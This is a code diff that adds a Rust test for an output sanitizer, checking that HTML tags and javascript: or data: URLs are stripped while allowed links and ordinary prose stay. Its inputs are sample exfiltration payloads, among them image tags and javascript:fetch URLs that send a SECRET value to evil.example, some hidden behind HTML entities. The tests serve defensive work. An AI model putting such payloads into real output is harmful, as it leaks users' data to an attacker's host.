@@ -148,6 +148,53 @@ fn raw_html() {
 }
 
 #[test]
+fn text_is_read_decoded_and_script_urls_go_everywhere() {
+    let cases = [
+        (
+            "entity-escaped img tag",
+            "query \"x &lt;img src=\"https&#58;//evil.example/?d=SECRET\"> y\" matched",
+            "query \"x [html removed] y\" matched",
+        ),
+        ("escaped tag in emphasis", "*&lt;img src=//evil.example/SECRET>*", "*[html removed]*"),
+        (
+            "escaped allowed img kept",
+            "&lt;img src=\"https://docs.example.com/a.png\">",
+            "&lt;img src=\"https://docs.example.com/a.png\">",
+        ),
+        (
+            "javascript url in a code span",
+            "run `javascript:fetch('https://evil.example/?d='+SECRET)` now",
+            "run [link removed: host not allowed] now",
+        ),
+        ("javascript url in text", "open javascript:alert(SECRET) now", "open [link removed: host not allowed] now"),
+        (
+            "entity hides the javascript colon",
+            "open javascript&#58;alert(SECRET) now",
+            "open [link removed: host not allowed] now",
+        ),
+        (
+            "data url in a code block",
+            "```\ndata:text/html;base64,SECRET\n```\n",
+            "```\n[link removed: host not allowed]\n```\n",
+        ),
+        (
+            "prose about javascript kept",
+            "JavaScript: install the SDK. VBScript: no.",
+            "JavaScript: install the SDK. VBScript: no.",
+        ),
+        ("prose about data kept", "Metadata: a map. Data: rows, data:1", "Metadata: a map. Data: rows, data:1"),
+        (
+            "code block with a foreign url kept",
+            "```\ncurl https://api.stripe.com/v1\n```\n",
+            "```\ncurl https://api.stripe.com/v1\n```\n",
+        ),
+    ];
+    for (name, input, want) in cases {
+        check(name, input, want);
+    }
+}
+
+#[test]
 fn unchanged_answers_are_borrowed() {
     let hosts = allowed();
     for answer in ["Refunds take 5 days.", "", "[ok](https://docs.example.com/a)", "`<img src=//evil>`"] {
